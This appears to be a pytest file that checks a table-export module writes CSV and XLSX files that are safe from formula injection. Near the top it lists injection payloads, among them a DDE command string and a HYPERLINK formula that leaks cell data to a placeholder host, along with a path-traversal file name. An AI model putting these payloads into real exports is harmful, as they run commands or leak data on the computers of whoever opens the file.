"""A table to download: what is in the file is what was in the table, and nothing in it is ever run."""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook

from stonechat.app.tables import (
    LONGEST_TEXT,
    About,
    Cell,
    ColumnKind,
    Form,
    Heading,
    Marking,
    TableToDownload,
    as_csv,
    as_workbook,
    download,
)

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "http://example.invalid/",
    "mailto:someone@example.invalid",
    "internal:'About'!A1",
    '","=1+1',
    "a\r\n=1+1",
    "{=1+1}",
    "00012",
    "1e5",
)
"""What people have put into cells to be run, followed or swallowed by a spreadsheet."""

RUN_IF_FIRST = "=+-@\t\r\n\0＝＋－＠"

MADE = datetime.fromisoformat("2026-01-31T14:05")


def _about(**changes: object) -> About:
    said = {
        "authority": "Testshire",
        "snapshot": "abc",
        "catalogue": "def",
        "data_to": date(2025, 10, 31),
        "made_by": "Ana Lyst",
        "made_at": MADE,
        "marking": Marking.SENSITIVE,
    }
    return About(**(said | changes))  # type: ignore[arg-type]


def _table(*rows: tuple[Cell, ...], **changes: object) -> TableToDownload:
    headings = (
        Heading("Child ID"),
        Heading("Days", ColumnKind.NUMBER),
        Heading("Closed", ColumnKind.DATE),
    )
    return TableToDownload("Three children", ("AS02", "2025-10"), headings, rows, _about(**changes))


def _lines(table: TableToDownload) -> list[list[str]]:
    text = as_csv(table).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def _sheet(content: bytes, name: str) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(name).to_python()


# ---------------------------------------------------------------- CSV


def test_a_csv_has_headings_rows_and_notes_below_a_line_of_blanks() -> None:
    lines = _lines(_table(("A1", 46, date(2025, 6, 10)), ("A2", Decimal("-1.5"), None)))
    assert lines[:4] == [
        ["Child ID", "Days", "Closed"],
        ["A1", "46", "2025-06-10"],
        ["A2", "-1.5", ""],
        ["", "", ""],
    ]
    assert ["Marking", "OFFICIAL-SENSITIVE", ""] in lines
    assert ["Made by", "Ana Lyst", ""] in lines
    assert ["Made at", "2026-01-31 14:05", ""] in lines
    assert ["Data to", "2025-10-31", ""] in lines


def test_a_csv_begins_with_the_mark_that_tells_excel_its_encoding_and_ends_lines_as_the_standard_says() -> (
    None
):
    content = as_csv(_table(("Zoë", 1, None)))
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Zoë" in content.decode("utf-8-sig")
    assert content.count(b"\n") == content.count(b"\r\n") > 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_csv_begins_like_a_formula(payload: str) -> None:
    lines = _lines(_table((payload, -1, None), made_by=payload, others=(("Reason", payload),)))
    starts = {
        field[0] for line in lines for at, field in enumerate(line) if field and (at != 1 or field != "-1")
    }
    assert not starts & set(RUN_IF_FIRST)
    kept = lines[1][0]
    assert kept == (f"'{payload}" if payload[0] in RUN_IF_FIRST else payload)


def test_a_negative_number_is_no_formula() -> None:
    assert _lines(_table(("A", -5, None), ("B", Decimal("-0.5"), None)))[1:3] == [
        ["A", "-5", ""],
        ["B", "-0.5", ""],
    ]


def test_every_line_of_a_csv_has_as_many_fields() -> None:
    assert {len(line) for line in _lines(_table(("A", 1, None)))} == {3}


# ---------------------------------------------------------------- workbook


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_of_a_workbook_stays_text_whatever_it_looks_like(payload: str) -> None:
    table = _table(
        (payload, 1, None), (payload, payload, payload), made_by=payload, others=(("Reason", payload),)
    )
    content = as_workbook(table)
    rows = _sheet(content, "OFFICIAL-SENSITIVE")
    assert _plain(rows[1][0]) == _plain(payload)
    assert [_plain(cell) for cell in rows[2]] == [_plain(payload)] * 3
    notes = dict(_sheet(content, "About"))  # type: ignore[arg-type]
    assert _plain(notes["Reason"]) == _plain(payload)
    _is_inert(content)


def _plain(text: object) -> str:
    """As it was: a workbook writes control characters by their number (ECMA-376, 22.9.2.19)."""
    decoded = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), str(text))
    return decoded.replace("\r\n", "\n").replace("\r", "\n")


def _is_inert(content: bytes) -> None:
    """Nothing in the workbook can run, reach out, hide or comment."""
    parts = _parts(content)
    sheets = "".join(text for name, text in parts.items() if name.startswith("xl/worksheets/"))
    assert "<f>" not in sheets
    assert "<f " not in sheets
    assert "<hyperlink" not in sheets
    assert "definedName" not in parts["xl/workbook.xml"]
    assert 'state="' not in parts["xl/workbook.xml"].replace('state="visible"', "")
    assert not [name for name in parts if "external" in name or "comment" in name or "vba" in name.lower()]
    assert "TargetMode" not in "".join(text for name, text in parts.items() if name.endswith(".rels"))


def test_a_workbook_holds_numbers_as_numbers_and_days_as_days() -> None:
    content = as_workbook(_table(("A1", 46, date(2025, 6, 10)), ("A2", Decimal("-1.5"), date(1899, 1, 1))))
    assert _sheet(content, "OFFICIAL-SENSITIVE") == [
        ["Child ID", "Days", "Closed"],
        ["A1", 46.0, date(2025, 6, 10)],
        ["A2", -1.5, "1899-01-01"],
    ]


def test_the_sheet_and_its_printed_pages_bear_the_marking() -> None:
    content = as_workbook(_table(("A1", 46, None)))
    pages = [text for name, text in _parts(content).items() if name.startswith("xl/worksheets/sheet")]
    assert len(pages) == 2
    assert all("OFFICIAL-SENSITIVE" in page.partition("<headerFooter>")[2] for page in pages)


def test_an_instruction_in_the_name_of_the_maker_is_no_instruction_of_the_footer() -> None:
    pages = _parts(as_workbook(_table(("A", 1, None), made_by="Ben & Jo")))
    assert "Ben &amp;&amp; Jo" in pages["xl/worksheets/sheet1.xml"]


def test_a_workbook_of_no_rows_has_its_headings() -> None:
    content = as_workbook(_table())
    assert _sheet(content, "OFFICIAL-SENSITIVE") == [["Child ID", "Days", "Closed"]]
    _is_inert(content)


def test_text_too_long_for_a_cell_ends_in_an_ellipsis_instead_of_being_dropped() -> None:
    rows = _sheet(as_workbook(_table(("x" * (LONGEST_TEXT + 1), 1, None))), "OFFICIAL-SENSITIVE")
    assert rows[1][0] == "x" * (LONGEST_TEXT - 1) + "…"


def test_the_same_table_gives_the_same_bytes() -> None:
    table = _table(("A1", 46, None))
    assert as_workbook(table) == as_workbook(table)
    assert "Stonechat" in _parts(as_workbook(table))["docProps/core.xml"]


# ---------------------------------------------------------------- the file


def test_the_name_of_the_file_is_generated_of_plain_letters() -> None:
    table = TableToDownload("x", ("AS02", 'a"b/../c\r\nd', "12m:2025-10"), (Heading("A"),), (), _about())
    made = download(table, Form.WORKBOOK)
    assert made.name == "OFFICIAL-SENSITIVE_AS02_a-b-c-d_12m-2025-10_2026-01-31-1405.xlsx"
    assert download(table, Form.CSV).content_type == "text/csv; charset=utf-8"


def test_a_table_that_does_not_fit_together_is_refused() -> None:
    with pytest.raises(ValueError, match="as many cells"):
        _table(("A1", 46))
    with pytest.raises(ValueError, match="headings"):
        TableToDownload("x", (), (Heading("A"), Heading("a")), (), _about())
